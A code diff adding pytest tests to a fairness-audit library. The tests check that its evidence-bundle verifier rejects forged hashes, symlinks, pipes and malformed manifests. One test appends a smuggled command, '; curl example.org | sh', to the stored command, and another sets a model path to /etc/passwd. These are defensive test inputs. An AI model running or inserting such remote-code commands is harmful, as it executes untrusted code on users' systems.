@@ -4,14 +4,16 @@ from __future__ import annotations
 
 import hashlib
 import json
+import os
 import shlex
 import shutil
+import time
 
 import pytest
 
 import problog4fairness as p4f
 from problog4fairness.errors import P4FError
-from problog4fairness.reporting.bundle import Inputs, verify, write_bundle
+from problog4fairness.reporting.bundle import Inputs, _page_differences, verify, write_bundle
 from problog4fairness.reporting.stored import read_comparison, save_comparison
 from tests.reporting.pages import Page, compared
 
@@ -107,6 +109,93 @@ def test_a_folder_that_is_no_bundle_or_reaches_out_is_refused(filed, tmp_path):
         (copy / "bundle.json").write_text(json.dumps(about | change))
         with pytest.raises(P4FError, match=r"not in the folder|changed by hand"):
             verify(copy, str(folder / "loans.csv"))
+
+
+def forged(folder, name, content):
+    """Another file in the folder, and its hash put right."""
+    about = json.loads((folder / "bundle.json").read_text())
+    (folder / name).write_bytes(content)
+    about["files"][name] = hashlib.sha256(content).hexdigest()
+    (folder / "bundle.json").write_text(json.dumps(about))
+
+
+def test_what_is_made_from_the_evidence_is_made_again(filed, tmp_path):
+    """Who holds the folder can put hashes right, but not what follows from model, audit and data."""
+    copy = shutil.copytree(filed[0] / "evidence", tmp_path / "evidence")
+    names = ["belief.pl", "suspects.csv", "comparison/summary.csv", "comparison/figure.png"]
+    for name in names:
+        forged(copy, name, (copy / name).read_bytes() + b"\n")
+    about = json.loads((copy / "bundle.json").read_text())
+    about["command"] += "; curl example.org | sh"
+    (copy / "bundle.json").write_text(json.dumps(about))
+    assert set(verify(copy, str(filed[0] / "loans.csv"))) == {
+        "bundle.json: the command is not the one that its options give",
+        *(f"{name}: comes out otherwise" for name in names),
+    }
+
+
+def test_files_that_are_not_listed_are_named(filed, tmp_path):
+    copy = shutil.copytree(filed[0] / "evidence", tmp_path / "evidence")
+    about = json.loads((copy / "bundle.json").read_text())
+    (copy / "bundle.json").write_text(json.dumps({**about, "files": {}}))
+    (copy / "report.html").unlink()
+    assert "report.html: bundle.json does not list it" in verify(copy, str(filed[0] / "loans.csv"))
+
+
+@pytest.mark.parametrize("target", ["/dev/zero", "fifo", "../loans.csv", "audit.csv"])
+def test_links_and_pipes_are_refused_at_once(filed, tmp_path, target):
+    copy = shutil.copytree(filed[0] / "evidence", tmp_path / "evidence")
+    (copy / "suspects.csv").unlink()
+    if target == "fifo":
+        os.mkfifo(copy / "suspects.csv")
+    else:
+        (copy / "suspects.csv").symlink_to(target)
+    with pytest.raises(P4FError, match=r"not in the folder|is a link|not a plain file"):
+        verify(copy, str(filed[0] / "loans.csv"))
+    (copy / "bundle.json").unlink()
+    os.mkfifo(copy / "bundle.json")
+    with pytest.raises(P4FError, match="not a plain file"):
+        verify(copy, str(filed[0] / "loans.csv"))
+
+
+def test_many_sections_take_linear_time():
+    began = time.process_time()
+    assert _page_differences('<section id="a"' * 100_000, "") == ["report.html: the section 'a' comes out otherwise"]
+    assert time.process_time() - began < 2
+
+
+OTHER_TYPES = [
+    {"files": "[" * 5000}, {"options": {"seed": "0"}}, {"options": {"fair": 3}}, {"names": {"a": 1}},
+    {"model": "/etc/passwd"}, {"model": "a\0b"}, {"model": "\ud800"}, {"comparison": 1},
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("change", OTHER_TYPES)
+def test_a_manifest_of_other_types_is_refused(filed, tmp_path, change):
+    copy = shutil.copytree(filed[0] / "evidence", tmp_path / "evidence")
+    about = json.loads((copy / "bundle.json").read_text())
+    (copy / "bundle.json").write_text(json.dumps(about | change))
+    with pytest.raises(P4FError):
+        verify(copy, str(filed[0] / "loans.csv"))
+    (copy / "bundle.json").write_text("[" * 100_000)
+    with pytest.raises(P4FError, match="cannot be read"):
+        verify(copy, str(filed[0] / "loans.csv"))
+
+
+@pytest.mark.parametrize(
+    "change", [{"levels": 3}, {"left_out": 5}, {"gains": [1]}, {"data_disparity": {"a": 10**400}}, {"rows": []}]
+)
+def test_a_comparison_of_other_types_is_refused(filed, tmp_path, change):
+    copy = shutil.copytree(filed[0] / "compared", tmp_path / "compared")
+    about = json.loads((copy / "comparison.json").read_text())
+    for content in (json.dumps(about | change), "[" * 100_000):
+        (copy / "comparison.json").write_text(content)
+        with pytest.raises(P4FError, match="that can be read"):
+            read_comparison(copy)
+    (copy / "comparison.json").unlink()
+    (copy / "comparison.json").symlink_to("/dev/zero")
+    with pytest.raises(P4FError):
+        read_comparison(copy)
 
 
 def test_a_stored_comparison_is_the_one_that_was_made(filed, loans, model, tmp_path):
